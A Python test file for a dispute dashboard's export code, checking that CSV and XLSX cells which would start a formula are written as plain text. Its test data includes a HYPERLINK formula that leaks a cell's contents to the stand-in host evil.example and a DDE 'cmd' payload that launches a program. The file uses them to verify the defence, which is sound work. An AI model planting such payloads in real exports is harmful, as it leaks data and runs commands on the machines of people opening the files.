"""The dashboard's CSV and XLSX files: names typed by staff cannot run as formulas when opened."""

import csv
import io

from openpyxl import load_workbook

from disputes.dashboard.exports import csv_lines, xlsx_file
from disputes.dashboard.tables import Table

PAYLOAD = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'


def hostile_table() -> Table:
    table = Table(key="areas", title="Areas", columns=["地区", "受理", "@note"])
    table.add([PAYLOAD, 12, "-2+3+cmd|' /C calc'!A0"])
    table.add(["西湖街道", -3, "-40"])
    return table


def test_csv_cells_that_would_start_a_formula_are_text():
    rows = list(csv.reader(io.StringIO("".join(csv_lines(hostile_table())).lstrip("\ufeff"))))
    assert rows == [
        ["地区", "受理", "'@note"],
        ["'" + PAYLOAD, "12", "'-2+3+cmd|' /C calc'!A0"],
        ["西湖街道", "-3", "-40"],
    ]


def test_xlsx_cells_that_would_start_a_formula_are_text_and_numbers_stay_numbers():
    book = load_workbook(xlsx_file(hostile_table(), title="areas"))
    cells = [list(row) for row in book.active.iter_rows()]
    assert [c.value for c in cells[0]] == ["地区", "受理", "'@note"]
    assert [c.value for c in cells[1]] == ["'" + PAYLOAD, 12, "'-2+3+cmd|' /C calc'!A0"]
    assert [c.value for c in cells[2]] == ["西湖街道", -3, "-40"]
    assert all(c.data_type != "f" for row in cells for c in row)  # no formula cell anywhere
